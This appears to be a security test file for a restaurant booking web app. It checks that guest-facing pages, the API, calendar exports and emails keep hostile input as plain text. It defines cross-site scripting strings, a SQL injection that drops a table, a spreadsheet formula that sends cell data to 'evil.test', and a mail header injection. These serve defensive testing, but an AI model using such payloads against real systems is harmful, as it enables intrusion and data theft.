/** Texts that would be programs: kept and shown to the letter, run nowhere. */
import { eq } from 'drizzle-orm';
import { JSDOM } from 'jsdom';
import { GET as showVisit } from '@/app/(guest)/book/[service]/manage/[key]/route';
import { GET as show, POST as act } from '@/app/(guest)/book/[service]/route';
import { events } from '@/restaurant-api/db/schema/events';
import { areas } from '@/restaurant-api/db/schema/floor';
import { outbox } from '@/restaurant-api/db/schema/log';
import { restaurants, setups } from '@/restaurant-api/db/schema/restaurants';
import { type ApiServer, addRestaurant, addUser, caller, startApi } from '../support/api-server';
import { SOFIA, guestOf } from '../support/online-guest';
import { WEB_ORIGIN, configureWeb } from '../support/web';

const SCRIPT = `</script><script>window.robbed=1</script>"><img src=x onerror="window.robbed=1">'{{7*7}}\${7*7}`;
const SQL = `'; drop table bookings; select pg_sleep(10) --`;
const FORMULA = '=HYPERLINK("http://evil.test?"&A1)';

let api: ApiServer;
let owner: ReturnType<typeof caller>;

beforeAll(async () => {
  // Saturday afternoon in Madrid.
  api = await startApi({ now: () => Date.parse('2026-11-21T15:00:00Z') });
  configureWeb(api.url);
  const { db } = api.database;
  await addRestaurant(api.database, { uid: 'R1', service: 'uno' });
  await db.update(restaurants).set({ name: `Casa ${SCRIPT}` }).where(eq(restaurants.restaurant, 'R1'));
  const option = { UID: 1, Name: `Chair ${SCRIPT}`, Type: 'seat', Default: '' };
  await db.update(setups).set({ estFull: `Casa ${SCRIPT}`, estName: `Casa ${SCRIPT}`, estAddress: `Street ${SCRIPT}`, guestOptions: [option] }).where(eq(setups.restaurant, 'R1'));
  await db.update(areas).set({ name: `Terrace ${SCRIPT}` }).where(eq(areas.area, 2));
  await db.insert(events).values({ restaurant: 'R1', name: `Wine ${SCRIPT}`, text: SCRIPT, first: '2026-11-22', last: '2026-11-28', from: 21, to: 22, online: true });
  owner = caller(api, (await addUser(api.database, { email: 'owner@uno.test', roles: { R1: 'Owner' } })).token);
});
afterAll(() => api.close());

const BASE = '/tms/v2/restaurants/R1';
const QUERY = '?service=uno';
const hostile = { firstName: `Ana ${SCRIPT}`, lastName: SQL, eMail: 'ana@example.com', phone: '+34600112233', notes: FORMULA, guestNotes: SCRIPT };

/** What a browser would run of a page beside our own script files and the description for search engines. */
function runs(html: string): string[] {
  const { document } = new JSDOM(html).window;
  const scripts = [...document.querySelectorAll('script')].filter((one) => !one.getAttribute('src')?.match(/^\/[\w.-]+$/) && one.type !== 'application/ld+json');
  const handlers = [...document.querySelectorAll('*')].filter(({ attributes }) => [...attributes].some(({ name }) => name.startsWith('on')));
  return [...scripts, ...handlers, ...document.querySelectorAll('img[src=x]')].map(({ outerHTML }) => outerHTML.slice(0, 200));
}

test.each(['a booking', 'a diner', 'a note', 'an event'])('%s keeps every text to the letter, and gives it back', async (what) => {
  const made = {
    'a booking': ['books', { ...hostile, on: '2026-11-22', time: 20, covers: 2, by: 1, turn: 2 }],
    'a diner': ['diners', { firstName: SCRIPT, lastName: SQL, company: FORMULA, notes: SCRIPT, allergies: SQL, tags: ["'; --"] }],
    'a note': ['notes', { date: '2026-11-22', text: `${SCRIPT} ${SQL}` }],
    'an event': ['events', { name: SQL, text: `${SCRIPT} ${FORMULA}`, first: '2026-11-22', last: '2026-11-22', from: 20, to: 22 }],
  }[what] as [string, Record<string, unknown>];
  const [model, body] = made;
  const { status, body: created } = await owner<{ uid: number; booking?: { uid: number } }>('POST', `${BASE}/${model}${QUERY}`, body);
  expect([status, created]).toEqual([201, expect.anything()]);
  const { body: read } = await owner('GET', `${BASE}/${model}/${created.uid ?? created.booking?.uid}${QUERY}`);
  const text = JSON.stringify(read);
  const sent = Object.values(body).filter((value): value is string => typeof value === 'string' && [SCRIPT, SQL, FORMULA].some((program) => value.includes(program)));
  expect(sent.length).toBeGreaterThan(0);
  for (const value of sent) expect(text).toContain(JSON.stringify(value).slice(1, -1));
  expect((await owner('GET', `${BASE}/books${QUERY}&date=2026-11-22`)).status).toBe(200);
});

describe('the guests’ pages run nothing of it', () => {
  const params = { params: Promise.resolve({ service: 'uno' }) };
  const page = async (path: string) => (await show(new Request(WEB_ORIGIN + path, { headers: { 'accept-language': 'en' } }), params)).text();

  const said = encodeURIComponent(SCRIPT);
  test.each([
    ['as they are', '/book/uno?date=2026-11-22'],
    ['with hostile answers in the address', `/book/uno?date=2026-11-22&covers=${said}&area=${said}&channel=${said}`],
    ['in a hostile language, in a frame', `/book/uno?lang=${said}&embed=1`],
  ])('%s', async (_how, path) => {
    const html = await page(path);
    expect(html).toContain('Casa &lt;/script&gt;');
    expect(runs(html)).toEqual([]);
  });

  test('what a guest typed comes back as text', async () => {
    const fields = { action: 'book', details: '1', once: 'once-0001', date: '2026-11-22', time: '20:00', covers: '2', firstName: SCRIPT, lastName: SCRIPT, email: SCRIPT, phone: SCRIPT, phoneCountry: 'ES', notes: SCRIPT, event: SCRIPT };
    const body = new URLSearchParams(fields).toString();
    const headers = { host: 'localhost:3000', origin: WEB_ORIGIN, 'sec-fetch-site': 'same-origin', 'content-type': 'application/x-www-form-urlencoded', 'content-length': String(body.length), 'accept-language': 'en' };
    const html = await (await act(new Request(`${WEB_ORIGIN}/book/uno`, { method: 'POST', headers, body }), params)).text();
    expect(html).toContain('window.robbed');
    expect(runs(html)).toEqual([]);
  });

  test('his booking is shown, written to a calendar and mailed as text', async () => {
    const { body } = await guestOf(api, 'uno').book({ ...SOFIA, date: '2026-11-23', time: 20, firstName: SCRIPT, lastName: 'a\r\nBcc: everybody@evil.test', notes: 'BEGIN:VALARM' });
    const visit = { params: Promise.resolve({ service: 'uno', key: body.key }) };
    const html = await (await showVisit(new Request(`${WEB_ORIGIN}/book/uno/manage/${body.key}`, { headers: { 'accept-language': 'en' } }), visit)).text();
    expect(runs(html)).toEqual([]);
    const { body: calendar } = await guestOf(api, 'uno').call<string>('GET', `/bookings/${body.key}/calendar.ics`);
    expect(String(calendar)).not.toMatch(/^(Bcc|BEGIN:VALARM)/m);
    const [mail] = await api.database.db.select().from(outbox).where(eq(outbox.recipient, SOFIA.email));
    expect([mail?.subject.includes('\n'), mail?.recipient]).toEqual([false, SOFIA.email]);
  });
});
